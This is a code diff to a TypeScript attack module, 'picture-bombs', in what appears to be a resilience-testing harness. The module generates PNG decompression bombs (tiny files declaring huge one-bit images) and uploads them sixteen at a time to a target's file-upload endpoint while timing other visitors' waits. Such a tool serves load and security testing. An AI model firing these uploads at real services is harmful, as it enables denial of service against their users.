@@ -1,4 +1,5 @@
-import { crc32, deflateSync } from 'node:zlib';
+import { promisify } from 'node:util';
+import { crc32, deflate } from 'node:zlib';
 import { type Attack, Attempts, forEachAtOnce } from '../attack.ts';
 import { multipartPost } from '../forms.ts';
 import { attackerNetwork } from '../networks.ts';
@@ -12,12 +13,13 @@ function chunk(type: string, data: Buffer): Buffer {
 }
 
 /** Returns a PNG of one colour, one bit a pixel (PNG specification, third edition, section 11). */
-export function flatPng(width: number, height: number, rows = height): Buffer {
+export async function flatPng(width: number, height: number, rows = height): Promise<Buffer> {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
   header[8] = 1;
-  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * rows), { level: 9 });
+  // On another thread: this one measures how long other visitors wait.
+  const pixels = await promisify(deflate)(Buffer.alloc((Math.ceil(width / 8) + 1) * rows), { level: 9 });
   const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
   return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
 }
@@ -39,7 +41,9 @@ export const pictureBombs: Attack = {
   name: 'picture-bombs',
   run: async (target, isShort) => {
     const attempts = new Attempts(target);
-    const files = sizes.map(([width, height, rows]) => ({ width, height, bytes: flatPng(width, height, rows) }));
+    const files = await Promise.all(
+      sizes.map(async ([width, height, rows]) => ({ width, height, bytes: await flatPng(width, height, rows) })),
+    );
     const all = Array.from({ length: isShort ? 2 : 6 }, () => files).flat();
     await forEachAtOnce(all.entries(), 16, async ([index, { width, height, bytes }]) => {
       const form = multipartPost('/api/file/upload', [{ name: 'plan.png', bytes }]);
